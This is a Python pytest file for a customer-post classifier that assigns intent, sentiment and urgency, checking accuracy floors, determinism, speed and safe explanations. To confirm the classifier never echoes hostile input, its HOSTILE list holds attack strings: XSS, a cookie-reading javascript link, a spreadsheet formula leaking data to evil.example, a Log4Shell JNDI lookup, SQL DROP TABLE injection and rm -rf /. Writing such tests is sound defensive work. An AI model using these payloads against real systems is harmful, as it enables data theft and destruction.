"""Post classification by the learned model: the figures on the corpus's test brands and on the old Fernwood
labelled set (neither trained on), each failure class of issue 23, explanations, hostile text, determinism."""

from __future__ import annotations

import os
import time

import pytest

from bench.classify import accuracy, in_brand_order, macro_f1, per_label_scores, predict
from data.classifier_corpus import read
from models.classifier.train import REASONS
from models.classify import INTENTS, RULES_VERSION, SENTIMENTS, URGENCIES, classify, classify_many, current_model
from models.company import Company
from models.sentiment import label

CORPUS = read()
OTHER_BRAND = Company(name="Quayside Rail", brand_names=("Quayside",), product_names=("Railsaver",),
                      handles={"twitter": ("QuaysideRail",), "instagram": ("quaysiderail",)})


@pytest.fixture(scope="module")
def test_brands() -> tuple[list[dict], dict]:
    rows = in_brand_order([row for row in CORPUS if row["split"] == "test"])
    return rows, predict(rows)["model"]


# floors: the figures `python -m bench classify` measured for the shipped model (in the comments), less a margin
def test_intent_macro_f1_on_the_test_brands(test_brands):
    rows, predicted = test_brands
    assert macro_f1(per_label_scores([r["intent"] for r in rows], predicted["intent"], INTENTS)) >= 0.72  # 0.76


def test_sentiment_accuracy_on_the_test_brands(test_brands):
    rows, predicted = test_brands
    assert accuracy([r["sentiment"] for r in rows], predicted["sentiment"]) >= 0.80  # measured 0.86


def test_high_urgency_recall_on_the_test_brands(test_brands):
    rows, predicted = test_brands
    high = per_label_scores([r["urgency"] for r in rows], predicted["urgency"], ["high"])["high"]
    assert high["recall"] >= 0.90 and high["precision"] >= 0.50, high  # measured 0.96 and 0.55


def test_the_old_fernwood_labelled_set_which_the_model_never_saw():
    import csv

    from tests.conftest import FIXTURES

    with (FIXTURES / "labelled_posts.csv").open(newline="", encoding="utf-8") as f:
        rows = list(csv.DictReader(f))
    found = classify_many([row["text"] for row in rows])
    assert macro_f1(per_label_scores([r["intent"] for r in rows], [c.intent for c in found], INTENTS)) >= 0.60


# each failure class of issue 23, in posts written here (not in the corpus), to a company the model never saw
FAILURE_CLASSES = [
    ("@QuaysideRail my Railsaver was charged twice and nobody answers", "complaint", None),
    ("Please call me, there is a fraudulent booking on my account that I never made", "complaint", "high"),
    ("Three weeks of storms and not a single leak. Brilliant", "praise", "low"),
    ("Nothing went wrong at all ★★★★★", "praise", "low"),
    ("great, another week without my refund 🙄", "complaint", None),
    ("The heater sparked and burnt my daughter's arm, she is in hospital", "complaint", "high"),
    ("Someone hacked my account and changed the email, I can't log in", "complaint", "high"),
    ("I'm leaving Friday 6am and my passport wallet still hasn't arrived", "complaint", "high"),
    ("I'm reporting you to the regulator and going to the papers", "complaint", "high"),
    ("My mum is 91 and has had no heating for four days, she can't cope", "complaint", "high"),
]


@pytest.mark.parametrize(("text", "intent", "urgency"), FAILURE_CLASSES)
def test_the_failure_classes_of_issue_23(text, intent, urgency):
    result = classify(text, OTHER_BRAND)
    assert result.intent == intent, result.explanation
    assert urgency is None or result.urgency == urgency, result.explanation


def test_a_high_urgency_post_names_its_reason():
    result = classify("Someone hacked my account and ordered things on my card", OTHER_BRAND)
    assert result.urgency == "high" and result.urgency_reason in REASONS
    assert result.urgency_reason.replace("_", " ") in result.explanation


def test_sentiment_score_sits_in_the_band_of_its_class():
    found = classify_many([row["text"] for row in CORPUS[:300]])
    for result in found:
        assert -1.0 <= result.sentiment <= 1.0
        assert f"({label(result.sentiment)})" in result.explanation


@pytest.mark.parametrize("text", ["", "   ", "\n\t"])
def test_empty_text_is_other_and_low(text):
    result = classify(text)
    assert (result.intent, result.urgency, result.sentiment) == ("other", "low", 0.0)


def test_deterministic_and_classify_many_matches_classify():
    texts = [row["text"] for row in CORPUS[:60]]
    first = classify_many(texts)
    assert classify_many(texts) == first
    assert [classify(text) for text in texts[:10]] == first[:10]


FIT_A_SLICE = """
import sys
from pathlib import Path
from data.classifier_corpus import read
from models.classifier.train import fit, save
from tests.test_classify import OTHER_BRAND
rows = [row for row in read() if row["split"] == "train"][::12]
print(save(fit(rows, {row["brand"]: OTHER_BRAND for row in rows}), Path(sys.argv[1])))
"""


def test_retraining_gives_the_same_bytes_in_another_process(tmp_path):
    # another process: anything left to memory addresses or string hashing (an id() kept in a vectorizer, a set's
    # order) differs there, as it does between two runs of train-classifier
    import subprocess
    import sys

    from models.sql import MODELS_DIR

    paths = [tmp_path / "a.joblib", tmp_path / "b.joblib"]
    for path, seed in zip(paths, ("1", "2"), strict=True):
        subprocess.run([sys.executable, "-c", FIT_A_SLICE, str(path)], cwd=MODELS_DIR.parent, check=True,
                       env={**os.environ, "PYTHONHASHSEED": seed}, capture_output=True)
    assert paths[0].read_bytes() == paths[1].read_bytes()


def test_the_model_version_names_the_model_file():
    assert "model-" + current_model()[1] == RULES_VERSION and len(current_model()[1]) == 12


HOSTILE = [
    "<script>alert('refund')</script><img src=x onerror=alert(1)>",
    "**[Click for your refund](javascript:alert(document.cookie))** __still waiting__ ![x](http://evil.example/p.png)",
    '=HYPERLINK("http://evil.example/?leak="&A1,"refund now")',
    "=cmd|' /C calc'!A0",
    "+SUM(1,2) @SUM(A1:A9) -2+3",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s%n%x",
    "Robert'); DROP TABLE posts;-- why is nobody answering??",
    "```python\nimport os; os.system('rm -rf /')\n```",
    "\u202eevil\u202c \x00\x1b[31m NUL and escape \u0000",
    "(?:a+)+$ ((((((((((((((((((((a))))))))))))))))))))",
]
HOSTILE_FRAGMENTS = ("<script", "onerror", "javascript:", "HYPERLINK", "cmd|", "SUM(", "${jndi", "{{7*7}}",
                     "DROP TABLE", "os.system", "\u202e", "\x00", "\x1b", "(?:a+)")


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_classifies_and_is_never_echoed(text):
    result = classify(text)
    assert result.intent in INTENTS and result.urgency in URGENCIES and -1.0 <= result.sentiment <= 1.0
    assert text not in result.explanation
    assert not any(fragment in result.explanation for fragment in HOSTILE_FRAGMENTS)
    assert result.explanation.split(":")[0] in INTENTS and "\n" not in result.explanation


def test_explanations_quote_only_words_the_model_learnt():
    vocabulary = set(current_model()[0].features.word_terms)
    for result in classify_many([row["text"] for row in CORPUS[::40]] + HOSTILE):
        for quoted in result.explanation.split('"')[1::2]:
            assert quoted in vocabulary, result.explanation


def test_huge_and_pathological_texts_are_fast():
    start = time.perf_counter()
    found = classify_many(["A" * 1_000_000, "why? " * 200_000, "@" * 100_000, "refund " * 100_000, "🙄" * 100_000])
    assert all(result.intent in INTENTS for result in found)
    assert time.perf_counter() - start < 10  # MAX_CHARS bounds the work, whatever arrives


def test_throughput_in_batches():
    # `python -m bench classify` measures the model's batch throughput; the floor here, far below it, still fails a
    # regression to one model pass per post or a per-call model load
    texts = [row["text"] for row in CORPUS[:2_000]]
    start = time.perf_counter()
    classify_many(texts)
    assert len(texts) / (time.perf_counter() - start) >= 150


def test_labels_are_the_ones_routing_and_marts_read():
    assert INTENTS == ("complaint", "question", "praise", "idea", "other")
    assert URGENCIES == ("high", "normal", "low") and SENTIMENTS == ("negative", "neutral", "positive")


def test_importing_the_classifier_loads_no_model_of_its_own(tmp_path):
    """A Spark worker imports this module to run the build's classifier, handed to it: a model its own environment
    names is never read, not even when it is missing; the version is worked out when first read."""
    import subprocess
    import sys

    from store import PROJECT_ROOT

    script = """
import models.classify as c
from models.classifier.train import SHIPPED_MODEL, load
from models.company import Company
found = c.classify_many(["Where is my order #1042? Nobody answers."], Company(name="Shop"), load(SHIPPED_MODEL)[0])
print(found[0].intent)
try:
    c.RULES_VERSION
except FileNotFoundError:
    print("no version without the model")
"""
    env = {**os.environ, "RAPPORT_CLASSIFIER_MODEL": str(tmp_path / "missing.joblib")}
    done = subprocess.run([sys.executable, "-c", script], cwd=PROJECT_ROOT, env=env, capture_output=True, text=True,
                          timeout=300)
    assert done.returncode == 0, done.stderr[-2000:]
    intent, said = done.stdout.strip().splitlines()[-2:]
    assert intent in INTENTS and said == "no version without the model"
    assert RULES_VERSION.startswith("model-")  # read in this process, as every caller reads it
